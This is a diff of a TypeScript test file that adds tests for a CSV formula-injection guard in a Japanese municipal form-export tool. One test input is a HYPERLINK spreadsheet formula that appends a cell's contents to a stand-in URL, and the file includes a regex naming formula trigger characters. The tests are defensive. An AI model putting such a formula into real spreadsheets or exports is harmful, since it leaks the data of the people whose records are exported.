@@ -7,7 +7,7 @@ import { ResidentInfo } from '../../../card-reader/personal-data';
 import { bindValues } from '../../forms/binding/bind';
 import { loadLibrary } from '../../forms/load';
 import { ClerkQueue, clerkQueueOutput } from '../queue';
-import { csvField, csvLine, exportsDir, loadExportMapping, mappingProblems } from '.';
+import { csvDocument, csvField, csvLine, exportsDir, formulaSafe, loadExportMapping, mappingProblems } from '.';
 import { exportSubmission } from './export';
 
 const library = loadLibrary();
@@ -121,6 +121,24 @@ describe('exporting a submission', () => {
     expect(JSON.stringify(queue.auditLog())).not.toContain('見本');
   });
 
+  it('guards CSV cells that a spreadsheet would run as a formula, and leaves the JSON record exact', async () => {
+    const purpose = '=HYPERLINK("https://example.invalid/?"&A1,"開く")';
+    const kana = '＋ミホン';
+    const { queue, id } = await queuedJuminhyo({ kana, 'juminhyo.purpose': purpose, phone: '-0478' });
+    const [form] = exportSubmission(queue, id, clerk);
+    const record = JSON.parse(form!.json);
+    expect(record.record['使用目的']).toBe(purpose);
+    expect(record.record['請求者氏名カナ']).toBe(kana);
+    const [header, row] = parseCsv(form!.csv.slice(1));
+    const byColumn = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
+    expect(byColumn['使用目的']).toBe(`'${purpose}`);
+    expect(byColumn['請求者氏名カナ']).toBe(`'${kana}`);
+    expect(byColumn['請求者電話番号']).toBe("'-0478");
+    // Ordinary values are untouched.
+    expect(byColumn['請求者氏名']).toBe('見本　花子');
+    expect(byColumn['受付番号']).toBe('A-007');
+  });
+
   it('skips a form whose template has no mapping', async () => {
     const { queue, id } = await queuedJuminhyo({});
     expect(exportSubmission(queue, id, clerk, { mappingsDir: mkdtempSync(join(tmpdir(), 'kakanai-no-mappings-')) })).toEqual([]);
@@ -135,6 +153,25 @@ describe('CSV fields', () => {
     fc.assert(
       fc.property(fc.array(fc.string({ unit: fc.constantFrom('a', '字', ',', '"', '\r', '\n', ' ') }), { minLength: 1, maxLength: 5 }), (fields) => {
         expect(parseCsv(csvLine(fields))).toEqual([fields]);
+      }),
+    );
+  });
+});
+
+describe('the CSV formula guard', () => {
+  it('puts an apostrophe before = + - @, a leading tab or CR, and their full-width forms, and nothing else', () => {
+    for (const v of ['=1+1', '+81-478', '-2', '@SUM(A1)', '\t=1', '\r=1', '＝１＋１', '＋１', '－１', '＠ＳＵＭ']) expect(formulaSafe(v), JSON.stringify(v)).toBe(`'${v}`);
+    for (const v of ['', '香取市', '0478-54-1111', 'A-007', "'=already text", ' =1', '1=1', 'みほん　はなこ', '\n=1']) expect(formulaSafe(v), JSON.stringify(v)).toBe(v);
+  });
+
+  it('guards the data lines but not the header, and a guarded cell still reads back (RFC 4180)', () => {
+    const csv = csvDocument(['受付番号', '=列'], [['A-001', '=a,"b"']]);
+    expect(parseCsv(csv.slice(1))).toEqual([['受付番号', '=列'], ['A-001', `'=a,"b"`]]);
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', 'a', '字', '＝', "'") }), (value) => {
+        const [, [cell]] = parseCsv(csvDocument(['x'], [[value]]).slice(1)) as [string[], string[]];
+        expect(cell).toBe(/^[=+\-@\t\r＝＋－＠]/.test(value) ? `'${value}` : value);
+        expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
       }),
     );
   });
